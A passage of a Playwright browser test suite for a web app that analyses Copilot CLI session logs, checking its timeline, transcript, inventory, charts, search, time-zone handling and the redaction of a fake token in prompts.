    await page.waitForSelector('#view-timeline .vt-row .c-type:not(:empty)');
    const kinds = await page.$$eval('#view-timeline .vt-row:not([hidden]) .c-type', (all) => [...new Set(all.map((c) => c.textContent))]);
    assert(kinds.includes('Tool call') && kinds.includes('Tool result'), `the rows' kinds in words: ${kinds}`);
    assertEqual(kinds.filter((k) => k.includes('_')), [], 'no row shows a field name as its kind');
    // A tool call's detail: labelled fields.
    await page.fill('#tl-search', 'npm test');
    await page.check('#view-timeline input[data-type="tool_use"]');
    await page.waitForFunction(() => {
      const kinds = [...document.querySelectorAll('#view-timeline .vt-row:not([hidden]) .c-type')].map((c) => c.textContent);
      return kinds.length > 0 && kinds.every((kind) => kind === 'Tool call');
    });
    await page.click('#view-timeline .vt-row:not([hidden])');
    await page.waitForSelector('#tl-detail:not([hidden])');
    const terms = await page.$$eval('#tl-detail dl.facts dt', (all) => all.map((dt) => dt.textContent));
    assert(terms.includes('Time') && terms.includes('Kind') && terms.includes('Session') && terms.includes('Tool'), `the detail's labels: ${terms}`);
    assertEqual(rawNamesIn(await page.textContent('#tl-detail')), [], 'no field name in a row\'s detail');
    assertEqual(await page.textContent('#tl-detail dl.facts dd:nth-of-type(2)'), 'Tool call', 'the kind in words');
    await page.locator('#tl-detail').screenshot({ path: path.join(SHOTS, 'words-row-detail.png') });
    // A note of key=value pairs: its lead, then each value under its key.
    await page.uncheck('#view-timeline input[data-type="tool_use"]');
    await page.check('#view-timeline input[data-type="system"]');
    await page.fill('#tl-search', 'intention=Run');
    await page.waitForFunction(() => {
      const rows = [...document.querySelectorAll('#view-timeline .vt-row:not([hidden])')];
      return rows.length > 0 && rows.every((row) => row.querySelector('.c-type').textContent === 'Note' && row.querySelector('.c-text').textContent.includes('intention=Run'));
    });
    await page.click('#view-timeline .vt-row:not([hidden])');
    await page.waitForSelector('#tl-detail .note-fields');
    const note = await page.$eval('#tl-detail .note-fields', (el) => ({
      lead: el.querySelector('p').textContent,
      pairs: [...el.querySelectorAll('dt')].map((dt) => [dt.textContent, dt.nextElementSibling.textContent]),
    }));
    assertEqual(note, { lead: 'permission request: shell npm test', pairs: [['intention', 'Run the test suite']] }, 'the note as its lead and labelled value');
    assert(await page.$eval('#tl-detail pre.detail-text', (pre) => pre.hidden), 'the raw text is not shown beside it');
    await page.locator('#tl-detail').screenshot({ path: path.join(SHOTS, 'words-note-detail.png') });
    // The transcript shows the same note labelled.
    await page.click('#tl-to-transcript');
    await page.waitForSelector('#transcript[data-loaded]');
    const inTranscript = await page.$$eval('#conversation .sys .sys-text', (all) => all.map((el) => el.textContent));
    assert(inTranscript.includes('permission request: shell npm test · intention Run the test suite'), `the transcript's note labelled: ${inTranscript.filter((t) => t.includes('intention'))}`);
    assertEqual(errors, [], 'no page errors');
    return `labels ${labels.join(', ')}; detail terms ${terms.join(', ')}`;
  } finally {
    await browser.close();
  }
});

test('words: "Show thinking" without the option says so and analyses again with it; then the thinking shows', async () => {
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await pick(page, SPEC);
    const openFirstSession = async () => {
      await showView(page, 'sessions');
      await page.click('#session-list tbody tr:first-child button.link');
      await page.waitForSelector('#transcript[data-loaded]');
    };
    await openFirstSession();
    assert(await page.$eval('#thinking-off', (el) => el.hidden), 'nothing said before the toggle is used');
    await page.check('#show-thinking');
    assert(await page.isVisible('#thinking-off'), 'the toggle says the analysis left the reasoning out');
    assert((await page.textContent('#thinking-off')).includes('Include the model\u2019s reasoning'), 'it names the option');
    await shot(page, 'words-thinking-off.png', false);
    await page.click('#analyse-with-thinking');
    await waitForState(page, ['done'], 120_000);
    assert(await page.isChecked('#opt-thinking'), 'the option is now on');
    await openFirstSession();
    await page.check('#show-thinking');
    assert(await page.$eval('#thinking-off', (el) => el.hidden), 'with the option, nothing to say');
    const shown = await page.$$eval('#conversation .msg.thinking', (all) => all.filter((e) => e.offsetParent !== null).length);
    assert(shown > 0, 'the thinking rows show');
    assertEqual(errors, [], 'no page errors');
    return `${shown} thinking rows after analysing again`;
  } finally {
    await browser.close();
  }
});

test('words: an unnamed session shows its first prompt in the Sessions view, the transcript and the timeline', async () => {
  const id = '0a27e27e-0000-4000-8000-000000000001';
  const home = path.join(TMP, 'unnamed-home');
  const log = path.join(home, '.copilot/session-state', id, 'events.jsonl');
  mkdirSync(path.dirname(log), { recursive: true });
  const line = (type, data, at) => JSON.stringify({ type, data, id: `e-${at}`, timestamp: `2026-11-02T10:00:0${at}.000Z`, parentId: null });
  const secret = 'ghp_' + 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8';
  const prompt = `please touch a file named notes.txt and keep ${secret} out of it, and then tell me about it in a very long sentence`;
  writeFileSync(log, [line('session.start', { sessionId: id, version: 1, copilotVersion: '1.0.104', startTime: '2026-11-02T10:00:00.000Z', context: { cwd: '/w' } }, 0), line('user.message', { content: `\n${prompt}\nsecond line` }, 1)].join('\n') + '\n');
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await pick(page, home);
    const sessions = await page.evaluate(() => window.copilotLens);
    await showView(page, 'sessions');
    const shown = await page.textContent('#session-list tbody tr:first-child button.link');
    assert(shown.startsWith('please touch a file named notes.txt'), `the first prompt names it: ${shown} (${sessions.state})`);
    assert(!shown.includes(id) && !shown.includes('second line'), 'not its id, one line only');
    assert(!shown.includes(secret) && shown.includes('[redacted]'), 'scrubbed');
    assert(shown.endsWith('…') && [...shown].length <= 81, `cut to a line (${[...shown].length} characters)`);
    await page.click('#session-list tbody tr:first-child button.link');
    await page.waitForSelector('#transcript[data-loaded]');
    assertEqual(await page.textContent('#transcript .view-title'), shown, 'the transcript header says the same');
    await showView(page, 'timeline');
    await page.waitForSelector('#view-timeline .vt-row .c-session:not(:empty)');
    assertEqual(await page.textContent('#view-timeline .vt-row:not([hidden]) .c-session'), shown, 'so do the timeline\'s rows');
    await shot(page, 'words-unnamed-session.png', false);
    assertEqual(errors, [], 'no page errors');
    return shown;
  } finally {
    await browser.close();
  }
});

test('words: the inventory shows a built-in server, servers that failed to start, when each server and skill was last used, and a legend', async () => {
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await pick(page, path.join(ROOT, 'fixtures/inventory/home'));
    await showView(page, 'inventory');
    const cells = (name) =>
      page.$eval(`#view-inventory .inv-part[data-agent="copilot-cli"] table.inv-mcp_servers tr[data-id="${name}"]`, (row) => {
        const heads = [...row.closest('table').querySelectorAll('thead th')].map((th) => th.textContent);
        return Object.fromEntries([...row.children].map((td, i) => [heads[i], td.textContent]));
      });
    const builtIn = await cells('github-mcp-server');
    assertEqual([builtIn.verdict, builtIn.connected, builtIn.calls], ['built in', '1', '0'], 'the CLI\'s own server is built in');
    assertEqual((await cells('playwright')).verdict, 'failed to start', 'a server that only failed to start says so');
    assertEqual((await cells('aws-kb')).verdict, 'failed to start', 'configured, and it failed to start');
    assertEqual((await cells('github'))['last used'], '2026-10-05 09:01:04', 'the last call of a used server');
    assertEqual((await cells('vault'))['last used'], '—', 'never used');
    const deploy = await page.$eval('#view-inventory table.inv-skills tr[data-id="deploy"]', (row) => {
      const heads = [...row.closest('table').querySelectorAll('thead th')].map((th) => th.textContent);
      return row.children[heads.indexOf('last used')].textContent;
    });
    assertEqual(deploy, '2026-10-05 09:01:02', 'a skill\'s last invocation');
    const legend = await page.textContent('#view-inventory .inv-part[data-agent="copilot-cli"] [data-section="mcp_servers"] .inv-legend');
    assert(legend.includes('args · env · headers') && legend.includes('never kept'), `the legend says what is counted and that values are never kept: ${legend}`);
    await page.waitForTimeout(150);
    await shot(page, 'words-inventory.png');
    assertEqual(errors, [], 'no page errors');
    return 'built in, failed to start, last used and the legend shown';
  } finally {
    await browser.close();
  }
});

test('words and daily edges on the demo: the Timeline opens on events, charts are named with their figures as a table, grants and plans in words, the phone\'s row detail in view', async () => {
  const expected = native(DEMO);
  const rows = expected.rowsJsonl.split('\n').filter(Boolean).map((l) => JSON.parse(l));
  // Notes dated by their file's time (standing grants, sync markers) say no event's time.
  const datedByFile = (r) => /^permission setting: (locations\.|allowedUrls=|deniedUrls=)/.test(r.text) || r.text.startsWith('session synced: ');
  const events = rows.filter((r) => r.timestamp_utc && !datedByFile(r)).sort((a, b) => (a.timestamp_utc < b.timestamp_utc ? 1 : -1));
  const newest = events[0].timestamp_utc;
  assert(rows.some((r) => datedByFile(r) && r.timestamp_utc > newest), 'the demo has notes dated after its newest event');
  const inventory = JSON.parse(expected.inventoryJson);
  const grants = inventory.homes.flatMap((home) => home.agents.flatMap((agent) => agent.permission_grants));
  assert(grants.some((g) => g.words.startsWith('command: ')), 'the demo grants a command');
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await page.click('#demo');
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the demo is analysed');

    // The Timeline opens on the newest event, the notes dated by their file last.
    await showView(page, 'timeline');
    await page.waitForFunction(() => document.querySelector('#tl-scroll .vt-row[data-filled]:not([data-filled=""])'));
    const first = await page.$eval('#tl-scroll .vt-row:not([hidden])', (row) => [row.children[0].textContent, row.children[6].textContent]);
    assertEqual(first[0], newest.replace('T', ' ').replace(/\.\d+Z$/, ''), 'the first row is the newest event');
    assert(!/^permission setting|^session synced/.test(first[1]), `not a setting note: ${first[1]}`);

    // Each chart is named, and its figures are a table under it: the credits per day add up to
    // the days' totals of the native usage.
    await showView(page, 'overview');
    await page.waitForSelector('#view-overview .chart-table table', { state: 'attached' });
    const charts = await page.$$eval('#view-overview figure.chart-figure', (figures) =>
      figures.map((figure) => ({
        name: figure.querySelector('canvas').getAttribute('aria-label'),
        section: figure.closest('section').querySelector('h2').textContent,
        heads: [...figure.querySelectorAll('.chart-table thead th')].map((th) => th.textContent),
        rows: [...figure.querySelectorAll('.chart-table tbody tr')].map((tr) => [...tr.children].map((td) => td.textContent)),
      })),
    );
    assertEqual(charts.map((c) => c.name), charts.map((c) => c.section), 'each chart named as its section');
    assertEqual(charts.length, 4, 'four charts on the Overview');
    // The table holds what the chart draws (the charts' series are checked against the native
    // usage elsewhere): a row per label, a column per series, to the hundredth.
    const drawn = await page.$$eval('#view-overview figure.chart-figure canvas', (canvases) =>
      canvases.map((canvas) => {
        const { labels, datasets } = window.Chart.getChart(canvas).data;
        return { labels: labels.map(String), series: datasets.map((set) => set.label), values: labels.map((_, i) => datasets.map((set) => set.data[i])) };
      }),
    );
    const number = (text) => Number(text.replace(/,/g, ''));
    for (const [i, chart] of charts.entries()) {
      assertEqual(chart.heads.slice(1), drawn[i].series, `${chart.name}: a column per series`);
      assertEqual(chart.rows.map((cells) => cells[0]), drawn[i].labels, `${chart.name}: a row per label`);
      const off = chart.rows.flatMap((cells, row) => cells.slice(1).filter((cell, column) => Math.abs(number(cell) - drawn[i].values[row][column]) > 0.005));
      assertEqual(off, [], `${chart.name}: each figure is the chart's`);
    }
    const creditsByDay = charts.find((c) => c.name.startsWith('Credits per day'));
    assertEqual(creditsByDay.heads[0], 'day (UTC)', 'its rows are days');
    await page.click('#view-overview figure.chart-figure summary');
    await shot(page, 'demo-overview-chart-table.png');

    // Grants in words.
    await showView(page, 'inventory');
    const shownGrants = await page.$$eval('#view-inventory [data-section="permission_grants"] tbody tr', (trs) => trs.map((tr) => tr.lastElementChild.textContent));
    assertEqual(shownGrants, grants.map((g) => g.words), 'each grant in words, as inventory.json says them');
    assert(shownGrants.every((words) => !words.startsWith('{')), 'no JSON shown');

    // Plans by their product names.
    await showView(page, 'month');
    const plans = await page.$$eval('#month-plan option', (options) => options.slice(1).map((o) => o.textContent));
    assertEqual(plans, ['Copilot Max (20,000.00)', 'Copilot Pro (1,500.00)', 'Copilot Pro+ (7,000.00)'], 'plans by their product names');

    // The Sessions table fits its box on a 1400 px screen (the test's window).
    await showView(page, 'sessions');
    await page.waitForSelector('#view-sessions .sessions-table tbody tr');
    const [wide, box] = await page.$eval('#view-sessions .table-wrap', (wrap) => [wrap.scrollWidth, wrap.clientWidth]);
    assert(wide <= box, `the Sessions table fits at 1400 px: ${wide} px in ${box}`);

    // On a phone, a tapped timeline row's detail opens in view.
    await page.setViewportSize({ width: 390, height: 844 });
    await showView(page, 'timeline');
    await page.waitForFunction(() => document.querySelector('#tl-scroll .vt-row[data-filled]:not([data-filled=""])'));
    await page.click('#tl-scroll .vt-row:not([hidden])');
    await page.waitForSelector('#tl-detail:not([hidden])');
    const detailTop = await page.$eval('#tl-detail', (detail) => detail.getBoundingClientRect().top);
    assert(detailTop >= 0 && detailTop < 844, `the detail is on screen: its top at ${detailTop} px`);
    await shot(page, 'phone-timeline-detail.png', false);
    assertEqual(errors, [], 'no page errors');
    return `first row ${first[0]}; ${charts.length} charts named with tables; ${shownGrants.length} grants in words; detail at ${Math.round(detailTop)} px on a phone`;
  } finally {
    await browser.close();
  }
});

test('issue 52 on the demo and on the bill home, at 1400 px and on a phone: the money tile, named charts with tables, credits second, the Timeline on events, search with its first match in view, grants in words, the Sessions table and the bill fit, a refresh that keeps the view and says what changed, no serious accessibility problem', async () => {
  const bills = path.join(ROOT, 'fixtures/bills');
  const billHome = path.join(bills, 'home');
  const billFiles = filesUnder(billHome).map((rel) => ({ path: rel, b64: readFileSync(path.join(billHome, rel)).toString('base64') }));
  // The bill home is opened as a remembered folder, so that it can be refreshed.
  const remembered = async (page) => {
    await pickerReturning(page, 'bill-home', billFiles);
    await page.check('#remember-folder');
    await openMain(page);
  };
  const homes = [
    { label: 'demo', open: (page) => page.click('#demo'), query: '', expected: native(DEMO), word: 'backoff' },
    { label: 'bill home', open: remembered, query: '?today=2026-10-20', bill: path.join(bills, 'ai-credits.csv'), expected: native(billHome), word: 'cart' },
  ];
  const widths = [
    { label: 'desktop', width: 1400, height: 1000 },
    { label: 'phone', width: 390, height: 844 },
  ];
  const checked = [];
  for (const home of homes) {
    for (const screen of widths) {
      const where = `${home.label}, ${screen.label}`;
      const browser = await launch();
      try {
        const origin = server.url.replace(/\/$/, '');
        const { page, errors } = await openPage(browser, `${origin}/${home.query}`, origin);
        await page.setViewportSize({ width: screen.width, height: screen.height });
        const opened = home.open(page);
        assertEqual(await waitForState(page, ['done', 'error'], 300_000), 'done', `${where}: analysed`);
        await opened;
        const problems = [];
        // Each view checked is shot, for a person to look at (the test's output).
        const fits = async (view) => {
          if (screen.label === 'phone') await assertFits(page, `${where}, ${view}`);
          await shot(page, `issue52-${home.label.replace(' ', '-')}-${screen.label}-${view.replace(/\W+/g, '-')}.png`, screen.label === 'desktop');
          for (const problem of await accessibilityProblems(page)) problems.push({ view, ...problem });
        };

        // The one money figure on the Overview, marked where estimated and said in words.
        await showView(page, 'overview');
        const money = await page.$eval('#view-overview .tile[data-metric="credits_used"]', (tile) => [tile.querySelector('.tile-value').textContent, tile.querySelector('.tile-note')?.textContent || '']);
        assert(/^~?[\d,]+\.\d\d$/.test(money[0]) && /as Copilot recorded them|estimated at the published rates|your own key/.test(money[1]), `${where}: the money tile and what it rests on: ${money}`);
        // Charts named as their sections, their figures as tables.
        await page.waitForSelector('#view-overview .chart-table table', { state: 'attached' });
        const charts = await page.$$eval('#view-overview figure.chart-figure', (figures) => figures.map((f) => [f.querySelector('canvas').getAttribute('aria-label'), f.closest('section').querySelector('h2').textContent, f.querySelectorAll('.chart-table tbody tr').length]));
        assert(charts.length > 0 && charts.every(([name, title, rows]) => name === title && rows > 0), `${where}: charts named, with tables: ${JSON.stringify(charts)}`);
        await fits('overview');

        // Usage: credits second.
        await showView(page, 'usage');
        await page.selectOption('#usage-by', 'model');
        await page.waitForFunction(() => [...document.querySelectorAll('#view-usage h2')].some((e) => e.textContent === 'Usage by model'));
        const headers = await page.$$eval('#view-usage .usage-table thead th', (ths) => ths.map((th) => th.textContent));
        assertEqual(headers.slice(0, 2), ['model', 'credits'], `${where}: credits second`);
        await fits('usage');

        // The Timeline opens on an event, not on a note dated by its file.
        await showView(page, 'timeline');
        await page.waitForFunction(() => document.querySelector('#tl-scroll .vt-row[data-filled]:not([data-filled=""])'));
        const firstText = await page.$eval('#tl-scroll .vt-row:not([hidden]) .c-text', (cell) => cell.textContent);
        assert(!/^permission setting: (locations\.|allowedUrls=|deniedUrls=)|^session synced: /.test(firstText), `${where}: the Timeline opens on an event: ${firstText}`);
        await fits('timeline');

        // Search: the rows that hold the word, each match marked; a tapped row's detail opens in
        // view at its first match.
        const rows = home.expected.rowsJsonl.split('\n').filter(Boolean).map((line) => JSON.parse(line));
        const holding = rows.filter((row) => row.text.toLowerCase().includes(home.word)).length;
        assert(holding > 0, `${where}: the home has rows with ${home.word}`);
        await page.fill('#tl-search', home.word);
        await page.waitForFunction((text) => document.getElementById('tl-count').textContent === text, rowsText(holding));
        await page.waitForSelector('#tl-scroll .vt-row:not([hidden]) mark');
        const marked = await page.$$eval('#tl-scroll .vt-row:not([hidden]) mark', (all) => all.map((mark) => mark.textContent.toLowerCase()));
        assert(marked.every((text) => text === home.word), `${where}: the matches marked: ${marked}`);
        await page.click('#tl-scroll .vt-row:not([hidden])');
        await page.waitForSelector('#tl-detail:not([hidden]) mark');
        // With two matches or more, it says which is shown ("Next match" steps on).
        const inDetail = await page.$$eval('#tl-detail .detail-text mark', (all) => all.length);
        if (inDetail > 1) assertEqual(await page.textContent('#tl-match-at'), ` match 1 of ${inDetail}`, `${where}: the detail opens at its first match`);
        else assertEqual(await page.$('#tl-next-match'), null, `${where}: one match has no "Next match"`);
        const matchTop = await page.$eval('#tl-detail .detail-text mark', (mark) => mark.getBoundingClientRect().top);
        assert(matchTop >= 0 && matchTop < screen.height, `${where}: the first match is on screen: at ${Math.round(matchTop)} px`);
        await fits('timeline, searched');
        await page.fill('#tl-search', '');

        // Grants in words, as inventory.json says them.
        await showView(page, 'inventory');
        const grants = JSON.parse(home.expected.inventoryJson).homes.flatMap((h) => h.agents.flatMap((agent) => agent.permission_grants));
        const shownGrants = await page.$$eval('#view-inventory [data-section="permission_grants"] tbody tr', (trs) => trs.map((tr) => tr.lastElementChild.textContent));
        assertEqual(shownGrants, grants.map((grant) => grant.words), `${where}: each grant in words`);
        assert(shownGrants.every((words) => !words.startsWith('{')), `${where}: no grant shown as JSON`);

        // Sessions: the table fits its box at 1400 px; on a phone, cards that fit the screen.
        await showView(page, 'sessions');
        await page.waitForSelector('#view-sessions .sessions-table tbody tr');
        if (screen.label === 'desktop') {
          const [wide, box] = await page.$eval('#view-sessions .table-wrap', (wrap) => [wrap.scrollWidth, wrap.clientWidth]);
          assert(wide <= box, `${where}: the Sessions table fits: ${wide} px in ${box}`);
        }
        await fits('sessions');

        // The Month opens on a month with usage; with the bill, its tables fit.
        await showView(page, 'month');
        await page.waitForSelector('#month-tiles');
        const used = await page.$eval('#month-tiles .tile[data-metric="used"]', (tile) => Number(tile.dataset.value));
        assert(used > 0, `${where}: the Month opens on a month with usage (${used})`);
        if (home.bill) {
          await page.setInputFiles('#month-bill-input', home.bill);
          await billShown(page, 1);
          const statuses = await page.$$eval('.month-bill-rows tbody tr td:last-child', (cells) => cells.map((cell) => cell.textContent));
          assert(statuses.length > 0 && !statuses.some((status) => status.includes('_')), `${where}: the bill's statuses in words: ${statuses}`);
          const tables = await page.$$eval('#month-bill table.cards', (all) => all.map((t) => [t.scrollWidth, t.parentElement.clientWidth]));
          assert(tables.every(([wide, box]) => wide <= box), `${where}: the bill's tables fit: ${JSON.stringify(tables)}`);
        }
        await fits('month');
        for (const view of ['inventory', 'diagnostics', 'exports']) {
          await showView(page, view);
          await page.waitForTimeout(100);
          await fits(view);
        }

        // A refresh of the remembered folder keeps the view and its search, and says what changed.
        if (home.open === remembered) {
          await showView(page, 'timeline');
          await page.fill('#tl-search', home.word);
          await page.waitForSelector('#tl-scroll .vt-row:not([hidden]) mark');
          assertEqual(await refresh(page), 'done', `${where}: refreshed`);
          // Kept, once drawn again: right after the analysis ends the view may still be drawing
          // (a full test command's run on a phone caught it empty once).
          const kept = await page.waitForFunction(() => {
            const view = document.getElementById('view-timeline');
            return !view.hidden && view.dataset.ready === view.dataset.rendered;
          }, null, { timeout: 10_000 }).then(() => true, () => false);
          assert(kept && await page.isVisible('#view-timeline'), `${where}: the refresh keeps the view`);
          assertEqual(await page.inputValue('#tl-search'), home.word, `${where}: and the search`);
          const said = (await page.textContent('#cache-status')).replace(/^Refreshed in \d+\.\d s: /, '');
          assertEqual(said, 'nothing new since the last analysis.', `${where}: the refresh says what changed`);
          await fits('timeline, refreshed');
        }
        assertEqual(problems, [], `${where}: no serious or critical accessibility problem`);
        assertEqual(errors, [], `${where}: no page errors`);
        checked.push(where);
      } finally {
        await browser.close();
      }
    }
  }
  return checked.join('; ');
});

test('words: the developer figures are in Diagnostics and not on the Overview', async () => {
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await pick(page, SPEC);
    const summary = await summaryOf(page);
    await showView(page, 'overview');
    const overview = await tiles(page);
    for (const metric of ['rows', 'files', 'bad_lines']) assertEqual(overview[metric], undefined, `no ${metric} tile on the Overview`);
    const overviewText = await page.textContent('#view-overview');
    assert(!/engine memory|timeline rows|files found|bad lines|Rows by/.test(overviewText), 'no developer figure in the Overview\'s text');
    await showView(page, 'diagnostics');
    const diagnostics = await tiles(page, 'diagnostics');
    assertEqual([diagnostics.rows.value, diagnostics.files.value, diagnostics.bad_lines.value], [summary.rows, summary.files, summary.bad_lines], 'Diagnostics shows them');
    assert(/engine memory \d+ MiB/.test(await page.textContent('#diag-run')), 'and the engine\'s memory');
    await shot(page, 'words-diagnostics.png');
    assertEqual(errors, [], 'no page errors');
    return `Diagnostics: ${summary.rows} rows, ${summary.files} files, ${summary.bad_lines} bad lines`;
  } finally {
    await browser.close();
  }
});

// ---- search -----------------------------------------------------------------------------------------

test('search: a word past the first 512 bytes of a tool result is found; matches are highlighted; prompts only; newest first', async () => {
  // The word comes after 2,000 bytes of output: the row table keeps only the first 512.
  const output = `${'compiling module\n'.repeat(120)}error: zebracorn failed to link\n${'more output\n'.repeat(50)}note: zebracorn again\n`;
  const home = homeOf('search-long', [
    {
      id: '5ea4c000-0000-4000-8000-000000000001',
      events: [
        ['2026-10-01T09:00:00.000Z', 'user.message', prompt('build it and tell me about zebracorn')],
        ['2026-10-01T09:00:01.000Z', 'tool.execution_start', toolCall('call_1', 'cargo build')],
        ['2026-10-01T09:00:05.000Z', 'tool.execution_complete', toolResult('call_1', output)],
      ],
    },
  ]);
  const expected = native(home);
  const rows = expected.rowsJsonl.split('\n').filter(Boolean).map((l) => JSON.parse(l));
  const withWord = rows.filter((r) => r.text.toLowerCase().includes('zebracorn'));
  const pastStart = withWord.filter((r) => Buffer.from(r.text).indexOf('zebracorn') > 512);
  assert(pastStart.length === 1 && pastStart[0].turn_type === 'tool_result', 'the fixture has the word only past 512 bytes of a tool result');
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await pick(page, home);
    await showView(page, 'timeline');
    const countIs = (text) => page.waitForFunction((t) => document.getElementById('tl-count').textContent === t, text);
    await countIs(rowsText(rows.length));
    const shownTimes = () => page.$$eval('#tl-scroll .vt-row:not([hidden])', (all) => all.map((r) => r.firstChild.textContent));
    const times = await shownTimes();
    assertEqual(times, [...times].sort().reverse(), 'newest first by default');
    assertEqual(await page.textContent('#view-timeline .vt-head .c-time'), 'time (UTC)', 'the header says the times are UTC');

    await page.fill('#tl-search', 'ZEBRACORN');
    await countIs(rowsText(withWord.length));
    await page.waitForFunction((n) => document.querySelectorAll('#tl-scroll .vt-row[data-filled]:not([data-filled=""]):not([hidden])').length === n, withWord.length);
    const types = await page.$$eval('#tl-scroll .vt-row:not([hidden])', (all) => all.map((r) => r.children[1].textContent));
    assert(types.includes('Tool result'), `the tool result is among the rows found: ${types}`);
    const marks = await page.$$eval('#tl-scroll .vt-row:not([hidden]) mark', (all) => all.map((m) => m.textContent));
    assert(marks.length >= 1 && marks.every((m) => m === 'zebracorn'), `matches highlighted in the rows: ${marks}`);
    // The tool result's row shows a snippet around its first match (past what the row keeps), marked.
    const snippet = await page.$eval('#tl-scroll .vt-row.t-tool_result .c-text', (cell) => cell.textContent);
    assert(snippet.startsWith('…') && /zebracorn failed to link/.test(snippet), `the row shows the match in a snippet: ${snippet}`);
    await page.click('#tl-scroll .vt-row.t-tool_result');
    await page.waitForSelector('#tl-detail:not([hidden]) mark');
    assertEqual(await page.$$eval('#tl-detail mark', (all) => all.map((m) => m.textContent)), ['zebracorn', 'zebracorn'], 'the whole text in the detail, its matches highlighted');
    // The detail opens at the first match, and steps to the next.
    const current = () => page.$$eval('#tl-detail mark', (all) => all.findIndex((m) => m.classList.contains('current')));
    assertEqual([await current(), await page.textContent('#tl-match-at')], [0, ' match 1 of 2'], 'the first match is shown first');
    const inView = () => page.$eval('#tl-detail mark.current', (mark) => {
      const box = mark.closest('.detail-text').getBoundingClientRect();
      const at = mark.getBoundingClientRect();
      return at.top >= box.top && at.bottom <= box.bottom;
    });
    assert(await inView(), 'scrolled to in its box');
    await page.click('#tl-next-match');
    assertEqual([await current(), await page.textContent('#tl-match-at')], [1, ' match 2 of 2'], 'Next match steps to the second');
    assert(await inView(), 'which is scrolled to');
    await shot(page, 'search-long-text.png');

    await page.check('#tl-prompts-only');
    await countIs(rowsText(withWord.filter((r) => r.turn_type === 'user').length));
    assertEqual(await page.$$eval('#tl-scroll .vt-row:not([hidden])', (all) => all.map((r) => r.children[1].textContent)), ['Prompt'], 'prompts only');
    await page.uncheck('#tl-prompts-only');
    await page.fill('#tl-search', '');
    await page.uncheck('#tl-newest-first');
    await countIs(rowsText(rows.length));
    const oldest = await shownTimes();
    assertEqual(oldest, [...oldest].sort(), 'oldest first when asked');
    assertEqual(errors, [], 'no page errors');
    return `"zebracorn" at byte ${Buffer.from(pastStart[0].text).indexOf('zebracorn')} of a tool result found; ${withWord.length} rows, marks ${marks.length}`;
  } finally {
    await browser.close();
  }
});

test('search: "Yesterday" in a non-UTC zone finds the rows shown with yesterday\'s local date; headers follow "Times in"', async () => {
  // Now is 2026-12-02 03:00 UTC, 2026-12-01 22:00 in New York (-05:00): yesterday is 11-30 there, 12-01 in UTC.
  const now = '2026-12-02T03:00:00.000Z';
  const stamps = ['2026-11-30T04:59:59.000Z', '2026-11-30T05:00:00.000Z', '2026-12-01T04:59:59.000Z', '2026-12-01T05:00:00.000Z', '2026-12-02T01:00:00.000Z'];
  const home = homeOf('search-days', [{ id: '5ea4c000-0000-4000-8000-000000000002', events: stamps.map((at, n) => [at, 'user.message', prompt(`prompt ${n}`)]) }]);
  const rows = native(home).rowsJsonl.split('\n').filter(Boolean).map((l) => JSON.parse(l));
  const dayIn = (zone) => (iso) => new Intl.DateTimeFormat('sv-SE', { timeZone: zone, year: 'numeric', month: '2-digit', day: '2-digit' }).format(new Date(iso));
  const localYesterday = rows.filter((r) => r.timestamp_utc && dayIn('America/New_York')(r.timestamp_utc) === '2026-11-30');
  const utcYesterday = rows.filter((r) => r.timestamp_utc && dayIn('UTC')(r.timestamp_utc) === '2026-12-01');
  assertEqual(localYesterday.length, 2, 'two rows on 11-30 in New York');
  const browser = await launch({ timezoneId: 'America/New_York' });
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await page.clock.setFixedTime(new Date(now));
    await pick(page, home);
    const shownDays = () => page.$$eval('#tl-scroll .vt-row[data-filled]:not([data-filled=""]):not([hidden])', (all) => all.map((r) => r.firstChild.textContent.slice(0, 10)));
    const yesterday = async (expectedRows) => {
      await page.selectOption('#tl-when', 'yesterday');
      await page.waitForFunction((t) => document.getElementById('tl-count').textContent === t, rowsText(expectedRows.length));
      await page.waitForFunction((n) => document.querySelectorAll('#tl-scroll .vt-row[data-filled]:not([data-filled=""]):not([hidden])').length === n, expectedRows.length);
      return shownDays();
    };
    await showView(page, 'timeline');
    assertEqual(await yesterday(utcYesterday), utcYesterday.map(() => '2026-12-01'), 'in UTC, yesterday is 12-01');

    await page.selectOption('#opt-times', 'local');
    await showView(page, 'timeline');
    assertEqual(await page.textContent('#view-timeline .vt-head .c-time'), 'time (local)', 'the header says local');
    assertEqual(await yesterday(localYesterday), ['2026-11-30', '2026-11-30'], 'in New York, yesterday is 11-30: the rows shown with that date');
    assertEqual([await page.inputValue('#tl-since'), await page.inputValue('#tl-until')], ['2026-11-30', '2026-11-30'], 'the days filled in');
    await page.selectOption('#tl-when', 'week');
    const week = rows.filter((r) => r.timestamp_utc && dayIn('America/New_York')(r.timestamp_utc) >= '2026-11-25');
    await page.waitForFunction((t) => document.getElementById('tl-count').textContent === t, rowsText(week.length));
    await page.selectOption('#tl-when', 'today');
    const today = rows.filter((r) => r.timestamp_utc && dayIn('America/New_York')(r.timestamp_utc) === '2026-12-01');
    await page.waitForFunction((t) => document.getElementById('tl-count').textContent === t, rowsText(today.length));
    await shot(page, 'search-today-local.png', false);
    await showView(page, 'sessions');
    assert((await page.textContent('#session-list thead')).includes('started (local)'), 'the Sessions header says local');
    assertEqual(errors, [], 'no page errors');
    return `UTC yesterday ${utcYesterday.length} rows, New York yesterday ${localYesterday.length}, last 7 days ${week.length}, today ${today.length}`;
  } finally {
    await browser.close();
  }
});

test('search: the Sessions filter finds the session whose prompt says it', async () => {
  const home = homeOf('search-sessions', [
    { id: '5ea4c000-0000-4000-8000-000000000003', events: [['2026-10-01T09:00:00.000Z', 'user.message', prompt('list the files')], ['2026-10-01T09:01:00.000Z', 'user.message', prompt('now please touch a file')]] },
